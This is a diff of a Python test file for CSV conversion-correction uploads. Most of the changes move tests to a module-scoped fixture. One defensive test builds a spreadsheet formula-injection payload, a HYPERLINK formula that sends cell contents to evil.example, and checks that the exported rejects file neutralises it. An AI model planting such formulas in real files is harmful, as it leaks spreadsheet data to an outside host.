@@ -21,8 +21,8 @@ from ingest.conversions import take_conversions
 from ingest.correction_files import BadRow, CorrectionsError
 from ingest.corrections import ChangedSince, Preview
 from instants import iso
-from terminal import run_at
 from tests.places import CSV, JSON, MAY, SINGULAR, Place, a_callback, an_offer
+from tests.running import run_at
 from tests.tenants.database import execute
 
 ANNA = Actor("staff:anna@example.com", ip_address("192.0.2.7"))
@@ -97,11 +97,11 @@ def faults(bad: Sequence[BadRow]) -> list[tuple[int, str, str]]:
         "ConversionId,Status,RejectionReason,,\n{id},Rejected,fraud,,\n,,,,\n\n",
     ],
 )
-def test_a_file_is_read_as_spreadsheets_write_it(place: Place, content: str) -> None:
-    id_ = a_conversion(place)
-    done = apply(place, content.replace("{id}", id_))
+def test_a_file_is_read_as_spreadsheets_write_it(module_place: Place, content: str) -> None:
+    id_ = a_conversion(module_place)
+    done = apply(module_place, content.replace("{id}", id_))
     assert (len(done.changes), len(done.unchanged), done.bad) == (1, 0, [])
-    assert state(place, id_) == ("Rejected", "fraud")
+    assert state(module_place, id_) == ("Rejected", "fraud")
 
 
 def test_a_quoted_cell_may_hold_anything(place: Place) -> None:
@@ -141,12 +141,12 @@ ROW = f"\n{SOME},Rejected"
         ("ConversionId,Status" + ROW * 20_001, "more than 20,000 rows"),
     ],
 )
-def test_a_file_that_cannot_be_used_says_why(place: Place, content: str | bytes, told: str) -> None:
+def test_a_file_that_cannot_be_used_says_why(module_place: Place, content: str | bytes, told: str) -> None:
     with pytest.raises(CorrectionsError, match=told) as caught:
-        preview(place, content)
+        preview(module_place, content)
     assert "\x00" not in str(caught.value)
     with pytest.raises(CorrectionsError, match=told):
-        apply(place, content, "0" * 32)
+        apply(module_place, content, "0" * 32)
 
 
 @pytest.mark.parametrize(
@@ -168,11 +168,11 @@ def test_a_file_that_cannot_be_used_says_why(place: Place, content: str | bytes,
     ],
 )
 def test_a_bad_row_says_where_and_what_would_be_right(
-    place: Place, row: tuple[Any, ...], column: str, told: str
+    module_place: Place, row: tuple[Any, ...], column: str, told: str
 ) -> None:
-    id_ = a_conversion(place)
+    id_ = a_conversion(module_place)
     content = sheet(("", id_, "Rejected", ""), row, header=("ClickId", *HEADER))
-    shown = preview(place, content)
+    shown = preview(module_place, content)
     ((number, where, message),) = faults(shown.bad)
     assert (number, where) == (3, column)
     assert message.startswith(told)
@@ -329,11 +329,11 @@ def test_every_status_may_become_every_other(place: Place) -> None:
     ],
 )
 def test_a_reason_goes_with_the_rejection(
-    place: Place, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
+    module_place: Place, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
 ) -> None:
-    id_ = a_conversion(place, status=old[0], rejectionReason=old[1])
-    done = apply(place, sheet((id_, *row)))
-    assert state(place, id_) == new
+    id_ = a_conversion(module_place, status=old[0], rejectionReason=old[1])
+    done = apply(module_place, sheet((id_, *row)))
+    assert state(module_place, id_) == new
     assert len(done.changes) == (old != new)
     assert [(one.new_status, one.new_reason) for one in done.changes + done.unchanged] == [new]
 
@@ -569,10 +569,10 @@ def test_the_rejects_can_be_mended_and_sent_again(place: Place) -> None:
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
-def test_no_cell_of_the_rejects_is_a_formula(place: Place, start: str) -> None:
+def test_no_cell_of_the_rejects_is_a_formula(module_place: Place, start: str) -> None:
     bomb = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     content = sheet((bomb, bomb, bomb), (uuid4(), "Rejected", bomb))
-    rejects = preview(place, content).rejects_csv().decode("utf-8-sig")
+    rejects = preview(module_place, content).rejects_csv().decode("utf-8-sig")
     table = list(csv.reader(io.StringIO(rejects, newline="")))
     assert [row[1:4].count(f"'{bomb}") for row in table] == [0, 3, 1]
     assert not [cell for row in table for cell in row if cell.startswith(tuple("=+-@\t\r\n"))]
